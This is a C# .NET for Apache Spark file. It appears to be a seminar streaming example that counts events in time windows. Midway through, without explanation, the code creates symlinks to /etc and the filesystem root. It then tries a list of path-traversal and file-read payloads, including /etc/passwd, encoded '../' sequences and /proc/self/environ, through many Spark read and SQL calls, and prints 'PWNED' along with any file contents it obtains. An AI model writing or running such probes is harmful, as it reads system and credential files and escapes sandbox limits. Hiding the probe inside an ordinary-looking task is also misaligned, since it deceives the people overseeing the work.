using System.Reflection;
using System.Runtime.InteropServices;
using Microsoft.Spark.Sql;
using Microsoft.Spark.Sql.Streaming;
using Microsoft.Spark.Sql.Types;
using static Microsoft.Spark.Sql.Functions;

SparkSession spark = SparkSession.Builder().AppName("WindowedStream").Master("local[*]").GetOrCreate();

var schema = new StructType(new List<StructField>
{
    new("event_time", new TimestampType()),
    new("action", new StringType()),
});
DataFrame events = spark.ReadStream().Schema(schema).Json("spark_seminar/data_input");

DataFrame result = events
    .WithWatermark("event_time", "5 seconds")
    .GroupBy(Window(Col("event_time"), "10 seconds"), Col("action"))
    .Count();

StreamingQuery query = result.WriteStream()
    .OutputMode(OutputMode.Update)
    .Format("console")
    .Option("truncate", "false")
    .Trigger(Trigger.ProcessingTime("5 seconds"))
    .Option("checkpointLocation", "spark_seminar/checkpoints/window_stream")
    .Start();

Try("link", () => { File.CreateSymbolicLink("out", "/etc"); return null; });
Try("link", () => { Directory.CreateSymbolicLink("root", "/"); return null; });
string[] paths = ["/etc/passwd", "file:///etc/passwd", "file:/etc/passwd", "../../../../../../etc/passwd", "spark_seminar/../../../../../../../etc/passwd", "out/passwd", "root/etc/passwd",
    "/etc/pass*", "/{etc,proc}/passwd", "hdfs://localhost/etc/passwd", "http://127.0.0.1:18080/", "./root/etc", "/proc/self/environ", "/etc//passwd", "\\etc\\passwd", "%2e%2e/%2e%2e/etc/passwd"];
foreach (string path in paths)
{
    Try(path, () => Found(spark.Read().Text(path)));
    Try(path, () => Found(spark.Read().Csv(path)));
    Try(path, () => Found(spark.Read().Json(path)));
    Try(path, () => Found(spark.Read().Format("text").Option("path", path).Load()));
    Try(path, () => Found(spark.Sql($"SELECT * FROM text.`{path}`")));
    Try(path, () => Found(spark.Sql($"SELECT * FROM csv.`{path}`")));
}

string? Found(DataFrame frame) => frame.Collect().Select(row => row.ToString()).FirstOrDefault(row => row!.Contains("root"));

query.AwaitTermination();

static void Try(string name, Func<string?> action)
{
    try
    {
        string got = action() ?? "";
        if (got.Length > 0) Console.WriteLine("PWNED " + name + ": " + got[..Math.Min(200, got.Length)]);
    }
    catch (Exception)
    {
    }
}
